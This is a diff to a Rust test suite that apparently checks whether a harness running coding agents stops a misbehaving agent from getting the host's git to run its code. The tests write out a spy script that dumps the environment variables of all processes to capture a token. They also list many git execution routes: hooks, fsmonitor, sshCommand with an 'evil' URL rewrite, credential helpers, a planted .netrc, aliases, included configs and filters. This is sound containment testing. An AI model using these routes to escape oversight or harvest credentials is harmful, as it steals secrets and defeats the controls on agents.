@@ -14,7 +14,7 @@ use std::process::Command;
 use serde_json::Value;
 
 use crate::support::origin::program;
-use crate::support::{Forge, Origin, Receiver, path};
+use crate::support::{Forge, Origin, Receiver, path, quoted};
 
 const BRANCH: &str = "descartes/proj-456/8";
 
@@ -30,17 +30,18 @@ impl Scene {
     fn new() -> Self {
         let origin = Origin::with(&[("README", "A house.\n"), ("src/main", "roof\n")]);
         // Different for every test, because spies of other tests run at the same time.
-        let token = format!("tok_{}", origin.path("").display()).replace(['/', '.'], "x");
+        let token = format!("tok_{}", origin.path("").display());
+        let token = token.replace(|c: char| !c.is_ascii_alphanumeric(), "x");
         let spy = origin.path("spy");
         let script = format!(
             "{{ tr '\\0' '\\n' < /proc/self/environ; echo \"ran as $0 $*\"
             for process in /proc/[0-9]*; do
-                case $(readlink $process/exe) in
+                case $(readlink \"$process/exe\") in
                     *descartes-worker) ;;
                     *) tr '\\0' '\\n' < $process/environ ;;
                 esac
             done; }} >> {} 2>/dev/null; cat; exit 0",
-            origin.path("loot").display()
+            quoted(origin.path("loot"))
         );
         program(&spy, &script);
         Self {
@@ -59,19 +60,17 @@ impl Scene {
         fs::read_to_string(self.origin.path("loot")).unwrap_or_default()
     }
 
-    /// Has an agent do its work and then its mischief; `$SPY` is the spy, `$AT` a directory of the
-    /// agent's outside the project. Gives the terminal event.
+    /// Has an agent do its work and then its mischief; `$SPY` is the spy's path, `$RUN` a shell's
+    /// command that runs it, `$AT` a directory of the agent's outside the project. Gives the
+    /// terminal event.
     #[track_caller]
     fn play(&self, mischief: &str) -> Value {
         let path = format!("{}:{}", self.origin.path("bin").display(), path().display());
         let agent = format!(
-            "SPY={}; AT={}; echo done > DONE\n{mischief}\nrm -f $AT/loot; true",
-            self.spy().display(),
-            self.origin
-                .path("tmp")
-                .parent()
-                .expect("a parent")
-                .display()
+            "SPY={}; RUN={}; AT={}; echo done > DONE\n{mischief}\nrm -f \"$AT/loot\"; true",
+            quoted(self.spy()),
+            quoted(quoted(self.spy())),
+            quoted(self.origin.path("tmp").parent().expect("a parent"))
         );
         let worker = self.origin.worker(&self.receiver);
         let worker = worker
@@ -116,7 +115,7 @@ fn the_spy_sees_what_there_is_to_see() {
 #[test]
 fn the_agent_itself_is_not_shown_the_token() {
     let scene = Scene::new();
-    let event = scene.play("$SPY < /dev/null; mv $AT/loot $AT/kept");
+    let event = scene.play(r#""$SPY" < /dev/null; mv "$AT/loot" "$AT/kept""#);
     assert_eq!(event["status"], "completed");
     let seen = fs::read_to_string(scene.origin.path("kept")).unwrap();
     assert!(
@@ -128,23 +127,24 @@ fn the_agent_itself_is_not_shown_the_token() {
 #[test]
 fn hooks_do_not_run() {
     Scene::new().harmless(
-        "mkdir -p .git/hooks; for hook in pre-commit commit-msg post-commit pre-push post-checkout post-index-change \
-         reference-transaction pre-auto-gc fsmonitor-watchman; do cp $SPY .git/hooks/$hook; done
-         git config core.hooksPath $PWD/.git/hooks; git config --global core.hooksPath $PWD/.git/hooks",
+        r#"mkdir -p .git/hooks; for hook in pre-commit commit-msg post-commit pre-push post-checkout post-index-change
+         do cp "$SPY" .git/hooks/$hook; done
+         for hook in reference-transaction pre-auto-gc fsmonitor-watchman; do cp "$SPY" .git/hooks/$hook; done
+         git config core.hooksPath "$PWD/.git/hooks"; git config --global core.hooksPath "$PWD/.git/hooks""#,
     );
 }
 
 #[test]
 fn a_file_system_monitor_does_not_run() {
     Scene::new()
-        .harmless("git config core.fsmonitor $SPY; git config --global core.fsmonitor $SPY");
+        .harmless(r#"git config core.fsmonitor "$RUN"; git config --global core.fsmonitor "$RUN""#);
 }
 
 #[test]
 fn an_ssh_command_does_not_run() {
     let scene = Scene::new();
     let mischief = format!(
-        "for where in --local --global; do git config $where core.sshCommand $SPY
+        "for where in --local --global; do git config $where core.sshCommand \"$RUN\"
          git config $where ssh.variant simple; git config $where url.ssh://evil/.insteadOf {}/; done",
         scene.forge.base()
     );
@@ -155,9 +155,9 @@ fn an_ssh_command_does_not_run() {
 fn a_credential_helper_is_not_asked() {
     let scene = Scene::new();
     let mischief = format!(
-        "for where in --local --global; do git config $where credential.helper \"!$SPY\"
-         git config $where credential.{}.helper \"!$SPY\"; done
-         printf 'machine 127.0.0.1 login agent password guessed\\n' > $HOME/.netrc",
+        "for where in --local --global; do git config $where credential.helper \"!$RUN\"
+         git config $where credential.{}.helper \"!$RUN\"; done
+         printf 'machine 127.0.0.1 login agent password guessed\\n' > \"$HOME/.netrc\"",
         scene.forge.base()
     );
     scene.harmless(&mischief);
@@ -185,16 +185,17 @@ fn another_url_instead_is_not_taken() {
 
 #[test]
 fn a_program_that_asks_for_passwords_does_not_run() {
-    Scene::new()
-        .harmless("for where in --local --global; do git config $where core.askPass $SPY; done");
+    Scene::new().harmless(
+        r#"for where in --local --global; do git config $where core.askPass "$SPY"; done"#,
+    );
 }
 
 #[test]
 fn a_diff_of_the_agents_does_not_run() {
     Scene::new().harmless(
-        "for where in --local --global; do git config $where diff.external $SPY; git config $where diff.spy.textconv $SPY
-         git config $where diff.spy.command $SPY; git config $where core.pager $SPY; git config $where interactive.diffFilter $SPY; done
-         echo '* diff=spy' > .gitattributes; mkdir -p .git/info; echo '* diff=spy' > .git/info/attributes; echo changed >> README",
+        r#"for where in --local --global; do git config $where diff.external "$RUN"; git config $where diff.spy.textconv "$RUN"
+         git config $where diff.spy.command "$RUN"; git config $where core.pager "$RUN"; git config $where interactive.diffFilter "$RUN"; done
+         echo '* diff=spy' > .gitattributes; mkdir -p .git/info; echo '* diff=spy' > .git/info/attributes; echo changed >> README"#,
     );
 }
 
@@ -202,17 +203,18 @@ fn a_diff_of_the_agents_does_not_run() {
 fn aliases_do_not_run() {
     Scene::new().harmless(
         "for where in --local --global; do for command in init add write-tree commit-tree rev-parse rev-list push diff \
-         cat-file merge-base read-tree; do git config $where alias.$command \"!$SPY\"; done; done",
+         cat-file merge-base read-tree; do git config $where alias.$command \"!$RUN\"; done; done",
     );
 }
 
 #[test]
 fn included_configuration_is_not_in_force() {
     Scene::new().harmless(
-        "printf '[core]\\n\\tfsmonitor = %s\\n\\tsshCommand = %s\\n\\taskPass = %s\\n[credential]\\n\\thelper = \"!%s\"\\n' \
-         $SPY $SPY $SPY $SPY > $AT/evil; git config include.path $AT/evil; git config --global include.path $AT/evil
-         git config includeIf.gitdir:/.path $AT/evil
-         mkfifo $AT/fifo; printf '[include]\\n\\tpath = %s\\n' $AT/fifo >> .git/config",
+        r#"set_evil() { git config --file "$AT/evil" "$@"; }
+         set_evil core.fsmonitor "$RUN"; set_evil core.sshCommand "$RUN"; set_evil core.askPass "$SPY"
+         set_evil credential.helper "!$RUN"; git config include.path "$AT/evil"; git config --global include.path "$AT/evil"
+         git config includeIf.gitdir:/.path "$AT/evil"
+         mkfifo "$AT/fifo"; git config --add include.path "$AT/fifo""#,
     );
 }
 
@@ -220,10 +222,10 @@ fn included_configuration_is_not_in_force() {
 fn attributes_and_filters_change_and_run_nothing() {
     let scene = Scene::new();
     scene.harmless(
-        "mkdir -p .git/info $HOME/.config/git; for file in .gitattributes .git/info/attributes $HOME/.config/git/attributes; do
-         echo '* filter=spy merge=spy text eol=crlf' > $file; done; echo '*' > $HOME/.config/git/ignore; echo '*' > .git/info/exclude
-         for where in --local --global; do git config $where filter.spy.clean $SPY; git config $where filter.spy.process $SPY
-         git config $where filter.spy.smudge $SPY; git config $where filter.spy.required true; done; touch README; echo new > new",
+        r#"mkdir -p .git/info "$HOME/.config/git"; for file in .gitattributes .git/info/attributes "$HOME/.config/git/attributes"; do
+         echo '* filter=spy merge=spy text eol=crlf' > "$file"; done; echo '*' > "$HOME/.config/git/ignore"; echo '*' > .git/info/exclude
+         for where in --local --global; do git config $where filter.spy.clean "$RUN"; git config $where filter.spy.process "$RUN"
+         git config $where filter.spy.smudge "$RUN"; git config $where filter.spy.required true; done; touch README; echo new > new"#,
     );
     assert_eq!(scene.origin.show(BRANCH, "new"), "new");
 }
